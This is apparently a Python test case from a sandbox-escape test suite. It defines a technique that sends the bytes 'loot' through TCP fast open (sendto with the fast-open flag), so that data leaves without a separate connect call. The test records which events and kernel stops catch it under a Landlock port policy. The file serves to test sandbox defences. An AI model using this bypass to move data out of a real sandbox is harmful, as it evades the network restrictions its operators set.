"""Send with a connection's first packet: TCP fast open, which has no connect call."""

from tests.escape.grants import another_port, connect_tcp
from tests.escape.technique import Granted, Technique


def attack(world):
    descriptor = world.socket_raw(2, 1)
    address = world.ipv4(world.tcp)
    world.syscall("sendto", descriptor, b"loot", 4, 0x20000000, address, len(address))


TECHNIQUE = Technique(
    source="tcp(7) TCP_FASTOPEN; Landlock allows it (facts)",
    policy=another_port,
    event=("net.connect", "net.send"),
    by="kernel",
    syscall="sendto",
    stops=("notification",),
    control=Granted(connect_tcp),
)
